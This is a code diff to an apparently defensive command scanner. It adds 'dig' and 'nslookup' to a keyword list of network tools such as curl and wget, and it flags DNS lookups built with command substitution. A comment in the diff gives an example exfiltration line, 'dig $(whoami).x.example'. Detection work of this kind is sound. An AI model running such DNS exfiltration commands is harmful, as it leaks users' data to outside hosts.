@@ -90,7 +90,7 @@ public sealed class Scanner
                 patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Url));
             }
 
-            foreach (var command in (string[])["curl", "wget", "invoke-webrequest", "invoke-restmethod", "iwr", "irm"])
+            foreach (var command in (string[])["curl", "wget", "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "dig", "nslookup"])
             {
                 words.Add(command);
                 patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Command));
@@ -423,7 +423,17 @@ public sealed class Scanner
 
         var commandEnd = CommandInspector.End(text, start, context.Work);
         context.TriggerUntil = commandEnd;
+        var dns = end - start is 3 or 8 && (text[start] is 'd' or 'D' or 'n' or 'N');
+        if (dns && text.AsSpan(start, commandEnd - start).IndexOfAny('(', '`') < 0)
+        {
+            return; // a DNS lookup carries data out only in a name built by command substitution ("dig $(whoami).x.example")
+        }
+
         var reasons = CommandInspector.Inspect(text, start, commandEnd, context.Work, out var url);
+        if (dns)
+        {
+            reasons.RemoveAll(r => !r.Reason.StartsWith("command substitution", StringComparison.Ordinal));
+        }
         if (reasons.Count == 0 || (url is not null && _allowlist.Allows(UrlInspector.Host(url))))
         {
             return;
